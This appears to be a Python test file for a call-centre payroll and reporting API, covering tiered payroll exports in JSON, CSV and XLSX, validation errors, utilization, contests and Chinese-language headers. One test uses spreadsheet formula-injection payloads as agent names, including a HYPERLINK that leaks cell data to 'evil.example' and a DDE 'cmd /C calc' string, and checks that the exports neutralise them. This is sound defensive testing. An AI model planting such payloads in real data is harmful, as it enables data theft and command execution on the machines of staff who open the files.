"""Report routes in process: scheme, monthly payroll as JSON, CSV and XLSX (read back
with openpyxl and compared with the JSON), utilization, baseline, contests, warnings."""

from __future__ import annotations

import csv
import io

import openpyxl
from api_support import Api, bearer, error

NOV_SCHEME = {"effective_from": "2026-11", "currency": "CNY", "thresholds": [2, 4],
              "rates_cents": [100, 120, 140]}  # fmt: skip


async def _november(api: Api) -> None:
    """a1 completes 5 orders on 2026-11-23 and b1 1; QA passes 1 of a1's 2 checked."""
    await api.ok("PUT", "/v1/payroll/scheme", json=NOV_SCHEME)
    await api.agent("a1", capacity=10)
    await api.agent("b1", capacity=10)
    await api.ok("PUT", "/v1/schedule", json={"shifts": [
        {"agent_id": "a1", "start": "2026-11-23T08:00:00Z", "end": "2026-11-23T16:00:00Z"},
        {"agent_id": "b1", "start": "2026-11-23T08:00:00Z", "end": "2026-11-23T16:00:00Z"},
    ]})  # fmt: skip
    await api.clock("2026-11-23T08:00:00Z")
    await api.ok("POST", "/v1/agents/a1/login")
    for i in range(5):
        await api.ok("POST", "/v1/orders", json={"id": f"a{i}"})
    await api.ok("POST", "/v1/agents/b1/login")
    await api.ok("POST", "/v1/orders", json={"id": "b0"})
    await api.clock("2026-11-23T10:00:00Z")
    for order_id in ("a0", "a1", "a2", "a3", "a4", "b0"):
        await api.ok("POST", f"/v1/orders/{order_id}/complete")
    await api.ok("POST", "/v1/orders/a0/qa", json={"passed": True})
    await api.ok("POST", "/v1/orders/a1/qa", json={"passed": False})
    await api.clock("2026-11-23T12:00:00Z")


async def test_monthly_payroll_json_csv_and_xlsx_agree(api: Api) -> None:
    await _november(api)
    payroll = await api.key("payroll")
    body = (await api.call("GET", "/v1/payroll/2026-11", payroll)).json()
    a1, b1 = body["agents"]
    assert a1 == {
        "agent_id": "a1", "name": "A1", "team": "north", "completed": 5,
        "tiers": [
            {"from": 1, "to": 2, "count": 2, "rate_cents": 100, "amount_cents": 200},
            {"from": 3, "to": 4, "count": 2, "rate_cents": 120, "amount_cents": 240},
            {"from": 5, "to": None, "count": 1, "rate_cents": 140, "amount_cents": 140},
        ],
        "payout_cents": 580, "scheduled_s": 4 * 3600, "on_duty_s": 4 * 3600,
        "utilization": 1.0, "qa_checked": 2, "qa_passed": 1, "accuracy": 0.5,
        "logout_requests": 0, "forced_logouts": 0, "first_responses": 0,
        "avg_first_response_s": None, "adjustments": [],
    }  # fmt: skip
    assert b1["payout_cents"] == 100 and b1["completed"] == 1
    assert body["totals"]["payout_cents"] == 680 and body["totals"]["completed"] == 6
    assert body["scheme"] == NOV_SCHEME and body["month"] == "2026-11"
    assert (body["from"], body["to"]) == ("2026-10-31T16:00:00Z", "2026-11-30T16:00:00Z")

    r = await api.call("GET", "/v1/payroll/2026-11?format=csv", payroll)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert len(rows) == 2
    for row, agent in zip(rows, body["agents"], strict=True):
        assert row["agent_id"] == agent["agent_id"]
        assert int(row["payout_cents"]) == agent["payout_cents"]
        assert int(row["completed"]) == agent["completed"]
        for i, tier in enumerate(agent["tiers"], start=1):
            assert int(row[f"tier{i}_count"]) == tier["count"]
            assert int(row[f"tier{i}_amount_cents"]) == tier["amount_cents"]
        assert float(row["utilization"]) == agent["utilization"]
        assert row["currency"] == "CNY"
    assert rows[1]["accuracy"] == ""  # nothing QA-checked: empty, not 0

    r = await api.call("GET", "/v1/payroll/2026-11?format=xlsx", payroll)
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("application/vnd.openxmlformats")
    assert 'filename="payroll-2026-11.xlsx"' in r.headers["content-disposition"]
    sheet = openpyxl.load_workbook(io.BytesIO(r.content)).active
    assert sheet.freeze_panes == "B2"
    header = [c.value for c in sheet[1]]
    assert header[:4] == ["Agent", "Name", "Team", "Completed"]
    payout_col = header.index("Payout")
    for line, agent in zip(sheet.iter_rows(min_row=2, max_row=3), body["agents"], strict=True):
        assert line[0].value == agent["agent_id"]
        assert round(line[payout_col].value * 100) == agent["payout_cents"]
        assert "¥" in line[payout_col].number_format
        assert line[3].value == agent["completed"]
    total = [c.value for c in sheet[4]]
    assert total[0] == "Total" and round(total[payout_col] * 100) == 680


async def test_payroll_errors(api: Api) -> None:
    r = await api.call("GET", "/v1/payroll/2026-11")
    assert error(r, 409, "no_payroll_scheme")["message"].startswith(
        "no payroll scheme is in force in 2026-11"
    )
    await api.ok("PUT", "/v1/payroll/scheme", json=NOV_SCHEME)
    r = await api.call("GET", "/v1/payroll/2026-11?format=pdf")
    assert error(r, 422, "invalid_field")["detail"] == {"field": "format"}
    r = await api.call("GET", "/v1/payroll/november")
    assert error(r, 422, "invalid_field")["message"] == (
        "month 'november' is not a month like '2026-11'"
    )
    r = await api.call("GET", "/v1/payroll/2026-11", bearer("nope"))
    assert error(r, 401, "unauthorized")
    platform = await api.key("platform")
    assert error(await api.call("GET", "/v1/payroll/2026-11", platform), 403, "forbidden")


async def test_scheme_put_and_its_errors(api: Api) -> None:
    payroll = await api.key("payroll")
    r = await api.call("PUT", "/v1/payroll/scheme", payroll, json=NOV_SCHEME)
    assert r.status_code == 201 and r.json() == NOV_SCHEME
    r = await api.call("PUT", "/v1/payroll/scheme", payroll, json=NOV_SCHEME)
    assert r.status_code == 200
    listed = await api.ok("GET", "/v1/payroll/scheme")
    assert listed == {"schemes": [NOV_SCHEME]}
    cases = [
        ({**NOV_SCHEME, "rates_cents": [100, 120.5, 140]}, "rates_cents[1]",
         "rates_cents[1]: Expected `int`, got `float`"),
        ({**NOV_SCHEME, "rates_cents": [100, -120, 140]}, "rates_cents[1]",
         "rates_cents[1] -120 must be a whole number of cents 0..100000000"),
        ({**NOV_SCHEME, "thresholds": [2500, 2000]}, "thresholds[1]",
         "thresholds[1] 2000 must be above thresholds[0] 2500: thresholds rise"),
        ({**NOV_SCHEME, "rates_cents": [100, 120]}, "rates_cents",
         "rates_cents has 2 rates; 2 thresholds need 3 (one per band)"),
        ({**NOV_SCHEME, "bonus": 1}, "bonus", "unknown field 'bonus'"),
    ]  # fmt: skip
    for body, field, message in cases:
        err = error(
            await api.call("PUT", "/v1/payroll/scheme", payroll, json=body), 422, "invalid_field"
        )
        assert (err["detail"], err["message"]) == ({"field": field}, message)
    supervisor = await api.key("supervisor")
    # 403 comes before the body is read.
    r = await api.call("PUT", "/v1/payroll/scheme", supervisor, json={"bad": 1})
    assert error(r, 403, "forbidden")
    assert (await api.ok("GET", "/v1/payroll/scheme")) == {"schemes": [NOV_SCHEME]}


async def test_utilization_route(api: Api) -> None:
    await _november(api)
    sup = await api.key("supervisor")
    r = await api.call(
        "GET",
        "/v1/utilization?from=2026-11-23T08:00:00Z&to=2026-11-23T09:00:00.5Z&agent_id=a1",
        sup,
    )
    body = r.json()
    assert body["agents"] == [{
        "agent_id": "a1", "name": "A1", "team": "north", "scheduled_s": 3600.5,
        "on_duty_s": 3600.5, "away_s": 0, "outside_schedule_s": 0, "utilization": 1.0,
        "logout_requests": 0, "logout_denials": 0, "logout_approvals": 0, "forced_logouts": 0,
        "not_responding_s": 0, "first_responses": 0, "avg_first_response_s": None,
    }]  # fmt: skip
    assert body["teams"][0]["team"] == "north" and body["totals"]["agents"] == 1
    # Default window: local midnight (Asia/Shanghai, 16:00Z the day before) to now (12:00Z).
    body = await api.ok("GET", "/v1/utilization?team=north")
    assert (body["from"], body["to"]) == ("2026-11-22T16:00:00Z", "2026-11-23T12:00:00Z")
    assert body["totals"]["scheduled_s"] == 2 * 4 * 3600
    r = await api.call("GET", "/v1/utilization?from=2026-11-23T09:00:00Z&to=2026-11-23T08:00:00Z")
    assert error(r, 422, "invalid_field")["detail"] == {"field": "to"}
    r = await api.call("GET", "/v1/utilization?from=yesterday")
    assert error(r, 422, "invalid_field")["detail"] == {"field": "from"}
    assert error(await api.call("GET", "/v1/utilization?agent_id=zz"), 404, "agent_not_found")


async def test_baseline_contests_and_warnings_routes(api: Api) -> None:
    await _november(api)
    body = await api.ok(
        "POST", "/v1/payroll/baseline", json={"months": ["2026-11"], "tiers": 2, "method": "stddev"}
    )
    # Means 5 and 1: mean 3, std 2, cut 1 keeps both; base 3, kept std 2.
    assert (body["base"], body["mean"], body["std"]) == (3.0, 3.0, 2.0)
    assert body["kept"] == ["a1", "b1"] and body["dropped"] == []
    assert body["thresholds"] == [3, 5]
    r = await api.call(
        "POST", "/v1/payroll/baseline", json={"months": ["2026-11"], "method": "median"}
    )
    assert error(r, 422, "invalid_field")["detail"] == {"field": "method"}
    contest = await api.ok("GET", "/v1/contests/2026-W48")
    assert [(p["id"], p["value"], p["points"]) for p in contest["individual_volume"]] == [
        ("a1", 5, 3),
        ("b1", 1, 2),
    ]
    assert contest["team_volume"][0]["id"] == "north"
    assert error(await api.call("GET", "/v1/contests/2026-48"), 422, "invalid_field")
    warnings = await api.ok("GET", "/v1/warnings/2026-11?bottom_n=1")
    assert warnings["previous_month"] == "2026-10" and warnings["warnings"] == []
    r = await api.call("GET", "/v1/warnings/2026-11?bottom_n=x")
    assert error(r, 422, "invalid_field")["detail"] == {"field": "bottom_n"}


async def test_contest_points_and_warning_bottom_n_are_center_settings(api: Api) -> None:
    await _november(api)
    body = await api.ok(
        "PUT", "/v1/settings", json={"contest_points": [10, 4], "warning_bottom_n": 5}
    )
    assert (body["contest_points"], body["warning_bottom_n"]) == ([10, 4], 5)
    assert body["logout_grace_s"] == 600  # a partial update leaves the rest as it was
    contest = await api.ok("GET", "/v1/contests/2026-W48")
    assert [(p["id"], p["points"]) for p in contest["individual_volume"]] == [("a1", 10), ("b1", 4)]
    # A query parameter still overrides the setting for one request.
    contest = await api.ok("GET", "/v1/contests/2026-W48?points=1,1")
    assert [p["points"] for p in contest["individual_volume"]] == [1, 1]
    assert (await api.ok("GET", "/v1/warnings/2026-11"))["bottom_n"] == 5
    assert (await api.ok("GET", "/v1/warnings/2026-11?bottom_n=2"))["bottom_n"] == 2


async def test_bad_contest_settings_are_refused_and_change_nothing(api: Api) -> None:
    before = await api.ok("GET", "/v1/settings")
    r = await api.call("PUT", "/v1/settings", json={"contest_points": [], "timezone": "UTC"})
    assert error(r, 422, "invalid_field")["message"] == (
        "contest_points [] must be 1..10 whole numbers of 0..1000 points"
    )
    r = await api.call("PUT", "/v1/settings", json={"contest_points": [3, -1]})
    assert error(r, 422, "invalid_field")["detail"] == {"field": "contest_points"}
    r = await api.call("PUT", "/v1/settings", json={"warning_bottom_n": 0})
    assert error(r, 422, "invalid_field")["message"] == (
        "warning_bottom_n 0 is out of range 1..1000"
    )
    r = await api.call("PUT", "/v1/settings", json={"contest_points": "3,2,1"})
    assert error(r, 422, "invalid_field")["detail"] == {"field": "contest_points"}
    assert await api.ok("GET", "/v1/settings") == before


ZH_CSV_HEADER = (
    "月份,坐席工号,姓名,班组,完成单量,第1档单量,第1档金额（分）,第2档单量,第2档金额（分）,"
    "第3档单量,第3档金额（分）,应发金额（分）,币种,排班时长（秒）,在岗时长（秒）,在岗率,"
    "质检单量,质检通过,准确率,下线申请次数,强制下线次数,平均首次响应时长（秒）"
)


async def test_the_csv_in_chinese_opens_in_a_spreadsheet_with_its_names_intact(api: Api) -> None:
    await _november(api)
    payroll = await api.key("payroll")
    english = (await api.call("GET", "/v1/payroll/2026-11?format=csv", payroll)).content
    r = await api.call("GET", "/v1/payroll/2026-11?format=csv&lang=zh-CN", payroll)
    assert r.status_code == 200
    # A byte-order mark, then UTF-8: Excel reads it as UTF-8, not as the local code page.
    assert r.content.startswith(b"\xef\xbb\xbf")
    text = r.content.decode("utf-8-sig")
    assert text.splitlines()[0] == ZH_CSV_HEADER
    # The same rows under other names: only the header line differs from the English CSV.
    assert text.splitlines()[1:] == english.decode().splitlines()[1:]
    r = await api.call("GET", "/v1/payroll/2026-11?format=csv&lang=zh-CN&bom=false", payroll)
    assert r.content.decode("utf-8").splitlines()[0] == ZH_CSV_HEADER
    r = await api.call("GET", "/v1/payroll/2026-11?format=csv&bom=true", payroll)
    assert r.content == b"\xef\xbb\xbf" + english  # English with a mark, when asked for


async def test_the_spreadsheet_in_chinese_names_its_sheet_headers_and_totals(api: Api) -> None:
    await _november(api)
    payroll = await api.key("payroll")
    r = await api.call("GET", "/v1/payroll/2026-11?format=xlsx&lang=zh-CN", payroll)
    book = openpyxl.load_workbook(io.BytesIO(r.content))
    sheet = book.active
    assert book.sheetnames == ["计件工资 2026-11"]
    header = [c.value for c in sheet[1]]
    assert header[:4] == ["坐席工号", "姓名", "班组", "完成单量"]
    assert header[4:6] == ["第1档单量（1-2）", "第1档金额（每单 1.00）"]
    assert [c.value for c in sheet[4]][:2] == ["合计", "2 名坐席"]
    english = openpyxl.load_workbook(
        io.BytesIO((await api.call("GET", "/v1/payroll/2026-11?format=xlsx", payroll)).content)
    ).active
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2, max_row=3)]
    assert values == [[c.value for c in row] for row in english.iter_rows(min_row=2, max_row=3)]


async def test_exports_follow_the_centers_language_unless_a_request_names_one(api: Api) -> None:
    await _november(api)
    payroll = await api.key("payroll")
    await api.ok("PUT", "/v1/settings", json={"language": "zh-CN"})
    r = await api.call("GET", "/v1/payroll/2026-11?format=csv", payroll)
    assert r.content.decode("utf-8-sig").splitlines()[0] == ZH_CSV_HEADER
    r = await api.call("GET", "/v1/payroll/2026-11?format=csv&lang=en", payroll)
    assert r.text.startswith("month,agent_id,name,team,completed,tier1_count,")


async def test_an_unknown_language_or_bom_is_a_422_naming_it(api: Api) -> None:
    await _november(api)
    payroll = await api.key("payroll")
    r = await api.call("GET", "/v1/payroll/2026-11?format=csv&lang=fr", payroll)
    assert error(r, 422, "invalid_field")["message"] == "lang 'fr' is not one of en, zh-CN"
    r = await api.call("GET", "/v1/payroll/2026-11?format=csv&bom=yes", payroll)
    assert error(r, 422, "invalid_field")["detail"] == {"field": "bom"}


async def test_exports_never_carry_a_live_formula_or_link_from_user_text(api: Api) -> None:
    """Payroll staff open these in a spreadsheet: an agent named like a formula stays text."""
    await _november(api)
    evil = {
        "a1": ('=HYPERLINK("http://evil.example/?"&A1,"pay")', "+north"),
        "b1": ("@SUM(1+1)*cmd|' /C calc'!A0", "http://evil.example/team"),
    }
    for agent_id, (name, team) in evil.items():
        body = {"name": name, "team": team, "skills": [], "capacity": 10}
        await api.ok("PUT", f"/v1/agents/{agent_id}", json=body)
    payroll = await api.key("payroll")
    r = await api.call("GET", "/v1/payroll/2026-11?format=csv", payroll)
    rows = {row["agent_id"]: row for row in csv.DictReader(io.StringIO(r.text))}
    assert rows["a1"]["name"] == "'" + evil["a1"][0] and rows["a1"]["team"] == "'+north"
    assert rows["b1"]["name"] == "'" + evil["b1"][0]
    assert rows["b1"]["team"] == "http://evil.example/team"  # a link only in a spreadsheet: below
    r = await api.call("GET", "/v1/payroll/2026-11?format=xlsx", payroll)
    sheet = openpyxl.load_workbook(io.BytesIO(r.content)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula in the sheet"
    assert not [c.coordinate for c in cells if c.hyperlink is not None], "a link in the sheet"
    names = {sheet.cell(i, 1).value: sheet.cell(i, 2).value for i in (2, 3)}
    assert names == {"a1": "'" + evil["a1"][0], "b1": "'" + evil["b1"][0]}
    assert sheet.cell(3, 3).value == "http://evil.example/team"  # text, not a link


async def test_warnings_of_the_first_month_compare_with_an_empty_month_before(api: Api) -> None:
    """1970-01 is a month the API takes; the month before it holds nothing (it was a 422
    naming 1969-12, a month the request never named)."""
    await api.agent("a1")
    body = await api.ok("GET", "/v1/warnings/1970-01?bottom_n=1")
    assert (body["month"], body["previous_month"], body["warnings"]) == ("1970-01", "1969-12", [])
